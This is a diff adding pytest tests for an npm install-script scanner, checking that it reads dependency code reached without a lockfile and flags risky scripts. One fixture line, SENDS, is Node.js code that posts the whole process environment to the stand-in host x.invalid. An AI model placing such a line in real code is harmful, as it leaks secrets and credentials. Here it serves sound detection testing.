@@ -1,0 +1,87 @@
+"""A package without a lockfile is read together with what its scripts reach in other packages."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from safe_install.beside import brought_along
+from safe_install.scan.reach.missing import Missing
+from tests.builders import a_manifest, a_package
+from tests.loopback import LoopbackRegistry
+from tests.world import World
+
+pytestmark = [pytest.mark.npm, pytest.mark.semgrep]
+
+SENDS = "require('https').request('https://x.invalid', { method: 'POST' }).end(JSON.stringify(process.env))\n"
+
+
+def a_folder(world: World, command: str, dependencies: dict[str, str], **files: str) -> None:
+    """Write a package folder beside the project."""
+    manifest = {"name": "lone", "version": "1.0.0", "scripts": {"postinstall": command}, "dependencies": dependencies}
+    world.write("lone/package.json", json.dumps(manifest))
+    for name, text in files.items():
+        world.write(f"lone/{name}.js", text)
+
+
+def verdict_of(world: World) -> dict[str, Any]:
+    """Scan the folder: its one script."""
+    (verdict,) = world.run("scan", "--json", "lone").report["verdicts"]
+    assert isinstance(verdict, dict)
+    return verdict
+
+
+def test_a_module_of_a_dependency_is_read_though_no_lockfile_names_it(world: World) -> None:
+    world.registry.publish("inner", "1.4.0", {"index.js": SENDS})
+    world.registry.publish("outer", "2.0.0", {"index.js": "require('inner')\n"}, dependencies={"inner": "^1.0.0"})
+    a_folder(world, "node index.js", {"outer": "^2.0.0"}, index="require('outer')\n")
+    verdict = verdict_of(world)
+    assert {"outer", "inner", "lone"} <= {file["package"] for file in verdict["files"]}
+    assert ("sends-environment", "WARNING") in {(one["signature"], one["severity"]) for one in verdict["findings"]}
+
+
+def test_a_program_of_a_dependency_is_read_though_no_lockfile_names_it(world: World) -> None:
+    world.registry.publish("builder", "1.0.0", {"cli.js": "console.log('built')\n"}, bin={"build-it": "cli.js"})
+    a_folder(world, "build-it", {"builder": "1.0.0"})
+    files = verdict_of(world)["files"]
+    assert ("builder", "cli.js") in {(file["package"], file["path"]) for file in files}
+
+
+def test_only_the_packages_own_scripts_are_judged(world: World) -> None:
+    world.registry.publish("outer", "2.0.0", {"index.js": SENDS}, scripts={"postinstall": "node index.js"})
+    a_folder(world, "node index.js", {"outer": "^2.0.0"}, index="require('outer')\n")
+    assert verdict_of(world)["package"] == "lone"
+
+
+def test_a_dependency_that_the_registry_does_not_have_leaves_the_script_unread_there(world: World) -> None:
+    a_folder(world, "node index.js", {"nowhere": "^2.0.0"}, index="require('nowhere')\n")
+    verdict = verdict_of(world)
+    assert verdict["decision"] == "review"
+    assert not verdict["complete"]
+
+
+@pytest.mark.parametrize(
+    "spec",
+    ["http://x.invalid/a.tgz", "git+ssh://git@x.invalid/a.git", "owner/repository", "npm:other@1.0.0", "file:../a"],
+)
+def test_no_host_is_asked_that_only_the_package_names(world: World, registry: LoopbackRegistry, spec: str) -> None:
+    a_folder(world, "node index.js", {"outer": spec}, index="require('outer')\n")
+    assert not verdict_of(world)["complete"]
+    assert registry.seen() == []
+
+
+def test_nothing_is_asked_for_what_no_script_reaches(world: World, registry: LoopbackRegistry) -> None:
+    registry.publish("outer", "2.0.0", {"index.js": ""})
+    a_folder(world, "node index.js", {"outer": "^2.0.0"}, index="console.log('hello')\n")
+    assert verdict_of(world)["decision"] == "skip"
+    assert registry.seen() == []
+
+
+def test_a_package_that_misses_nothing_brings_nothing(world: World) -> None:
+    from safe_install.cli import _tools
+
+    package = a_package({"package.json": a_manifest(dependencies={"outer": "^2.0.0"})})
+    assert brought_along(package, Missing(modules=frozenset({"undeclared"})), _tools(quiet=True)) == ()
+    assert world.registry.seen() == []
